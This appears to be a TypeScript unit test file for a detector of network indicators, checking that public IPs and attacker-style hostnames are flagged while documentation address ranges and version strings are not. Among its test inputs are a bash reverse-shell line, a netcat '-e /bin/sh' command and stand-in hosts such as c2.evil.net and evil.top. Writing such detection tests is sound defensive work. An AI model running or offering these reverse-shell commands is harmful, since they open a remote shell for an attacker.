import { address } from '#domain/shared/address';
import { indicatorsIn } from './network-indicators';

describe('indicatorsIn', () => {
  const of = (content: string, reservedAreReal = false): readonly string[] =>
    indicatorsIn({ content, address: address(1) }, reservedAreReal);

  it('tells public addresses, alone and in web addresses, from names', () => {
    expect(of('45.77.12.9')).toEqual(['public_address']);
    expect(of('http://45.77.12.9:8080/a')).toEqual(['public_address', 'address_url']);
    expect(of('https://c2.evil.net/a')).toEqual(['name']);
    expect(of('http://10.0.0.1/a')).toEqual([]);
    expect(of('version 4.5')).toEqual([]);
  });

  it.each(['192.0.2.1', '198.51.100.9', '203.0.113.7'])(
    'takes %s (RFC 5737) for nothing, unless told otherwise',
    (ip) => {
      expect(of(ip)).toEqual([]);
      expect(of(`http://${ip}/`)).toEqual([]);
      expect(of(`http://${ip}/`, true)).toEqual(['public_address', 'address_url']);
    },
  );

  it.each(['http://www.example.com/', 'http://x.test/', 'http://app.localhost/'])(
    'takes %s (RFC 2606) for nothing',
    (url) => {
      expect(of(url)).toEqual([]);
      expect(of(url, true)).toEqual(['name']);
    },
  );

  it.each([
    ['http://evil.top/test/payload.exe', ['name']],
    ['https://evil.top/example', ['name']],
    ['https://test@evil.top/x', ['name']],
    ['https://evil.top@x.test/', []],
    ['ws://invalid:81/x', []],
  ])('goes by the host of %s', (url, indicators) => {
    expect(of(url)).toEqual(indicators);
  });

  it.each([
    'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36',
    'ffmpeg 58.29.100.1',
    'Version 21.0.2.13',
    'libfoo-14.29.30.1.so',
    'built with 19.38.33130.0',
  ])('takes what is a version in "%s" for no address', (text) => {
    expect(of(text)).toEqual([]);
  });

  it.each([
    ' 45.77.12.9\n',
    '45.77.12.9:4444',
    'connect to 45.77.12.9:%d',
    'bash -i >& /dev/tcp/45.77.12.9/4444 0>&1',
    'nc 45.77.12.9 4444 -e /bin/sh',
    'ping 45.77.12.9',
    '--host=45.77.12.9',
  ])('takes what is meant as one in "%s" for an address', (text) => {
    expect(of(text)).toEqual(['public_address']);
  });

  it('keeps addresses beside those of documentation', () => {
    expect(of('203.0.114.7')).toEqual(['public_address']);
    expect(of('192.0.3.1')).toEqual(['public_address']);
  });
});
